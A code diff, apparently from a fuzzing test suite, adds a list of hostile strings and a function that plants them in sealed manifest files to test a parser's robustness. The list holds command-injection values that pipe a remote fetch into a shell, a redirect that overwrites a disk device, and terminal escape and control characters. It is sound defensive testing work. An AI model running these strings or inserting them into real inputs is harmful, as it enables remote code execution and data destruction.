@@ -46,6 +46,27 @@ def _with_manifest(case: Case, rng: Random) -> Case:
     return case.with_file(_path(case, "manifest.json"), _sealed(values, keep=rng.random() < 0.1))
 
 
+# What somebody would write who wants a reader to run it, or its terminal to obey it.
+_HOSTILE: tuple[Any, ...] = (
+    "none; curl evil|sh", "$(curl evil)", "`curl evil`", "fp16 && curl evil", "\x1b[2J\x1b]0;owned\x07", "a\rb",
+    "\u202egpj", "int8\n", "sm_86 | sh", "10.3.0.26; sh", "Linux x86_64 > /dev/sda", "\x9b2J", "\x00", "sha256:0",
+)  # fmt: skip
+
+
+def hostile_manifest(seed: dict[str, Any], rng: Random) -> bytes:
+    """A manifest whose digest fits, with one to three values that are hostile or merely odd."""
+    values = copy.deepcopy(seed)
+    for _ in range(rng.choice((1, 1, 2, 3))):
+        where, key = rng.choice(_places(values))
+        if rng.random() < 0.5:
+            where[key] = rng.choice(_HOSTILE)
+        elif rng.random() < 0.3 and isinstance(where, dict):
+            where[rng.choice(_HOSTILE)] = rng.choice(_HOSTILE)
+        else:
+            change_json(values, rng)
+    return _sealed(values)
+
+
 def _with_file(case: Case, name: str, rng: Random) -> Case:
     data = case.files[_path(case, name)]
     change: Callable[[bytes, Random], bytes] = mutate.damage
